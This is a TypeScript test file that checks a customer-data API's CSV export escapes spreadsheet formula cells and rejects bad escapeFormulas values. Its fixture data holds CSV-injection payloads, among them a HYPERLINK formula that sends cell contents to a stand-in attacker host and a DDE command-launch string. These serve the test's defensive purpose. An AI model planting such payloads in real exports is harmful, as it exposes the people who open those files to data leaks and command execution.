import { type Customer, createMemorySource } from '@custcode/core';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { entryOf, fixtureApp } from '../testing/api-fixtures.js';

const hostile: Customer[] = [
  { source: 'crm', erp: 'generic-sql', code: 'C1', name: '=HYPERLINK("http://evil.example/?"&A1,"x")', phone: "+1+cmd|' /C calc'!A0", category: '@SUM(', status: 'active', raw: {} },
  { source: 'crm', erp: 'generic-sql', code: 'C2', name: 'Acme', phone: '+86 10 1234 5678', category: '-5', status: 'active', raw: {} },
];
const { custcode, request } = fixtureApp({ policy: undefined, sources: { crm: entryOf(createMemorySource({ name: 'crm', erp: 'generic-sql', customers: hostile })) } });
afterAll(() => custcode.close());

const rows = async (query: string) => {
  const response = await request(`/sources/crm/export?format=csv&fields=code,name,phone,category${query}`);
  expect(response.status).toBe(200);
  return parse(await response.text(), { bom: true }) as string[][];
};

describe('GET /sources/:name/export as CSV', () => {
  it('escapes cells a spreadsheet would run as formulas, and keeps phone numbers and numbers readable', async () => {
    expect(await rows('')).toEqual([
      ['code', 'name', 'phone', 'category'],
      ['C1', `'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'+1+cmd|' /C calc'!A0", "'@SUM("],
      ['C2', 'Acme', '+86 10 1234 5678', '-5'],
    ]);
  });

  it('writes the cells verbatim with escapeFormulas=false, and refuses other values with 400', async () => {
    expect((await rows('&escapeFormulas=false'))[1]).toEqual(['C1', hostile[0]!.name, hostile[0]!.phone, '@SUM(']);
    expect((await request('/sources/crm/export?escapeFormulas=no')).status).toBe(400);
  });
});
